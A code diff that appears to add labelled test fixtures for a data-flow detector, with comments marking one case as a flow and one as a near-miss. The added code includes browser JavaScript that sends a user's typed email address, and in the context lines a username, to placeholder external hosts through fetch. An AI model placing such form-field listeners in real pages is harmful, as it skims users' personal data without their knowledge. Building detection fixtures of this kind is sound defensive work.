@@ -76,3 +76,21 @@ for (mode of new URLSearchParams(location.search).getAll('mode')) if (mode === '
 document.querySelector('input[name=username]').addEventListener('change', (e) => {
   if (mode === 'live') fetch('https://sbl.m17.example/u', { method: 'POST', body: e.target.value });
 });
+
+//# step-of-the-browser
+// flow: email > sob.m17.example via fetch
+// why: the last step is no function of the script
+const through = (...steps) => (value) => steps.reduce((so, step) => step(so), value);
+const written = through((mail) => ({ mail: mail.trim() }), JSON.stringify, encodeURIComponent);
+document.querySelector('input[type=email]').addEventListener('change', (e) => {
+  fetch('https://sob.m17.example/m?of=' + written(e.target.value));
+});
+
+//# near-step-that-only-tells
+// no flow
+// why: what goes out is whether there is a number
+const along = (...steps) => (value) => steps.reduce((so, step) => step(so), value);
+const isNumber = along((text) => text.replaceAll(' ', ''), Number, isFinite);
+document.querySelector('input[type=tel]').addEventListener('change', (e) => {
+  fetch('https://nst.m17.example/t?ok=' + isNumber(e.target.value));
+});
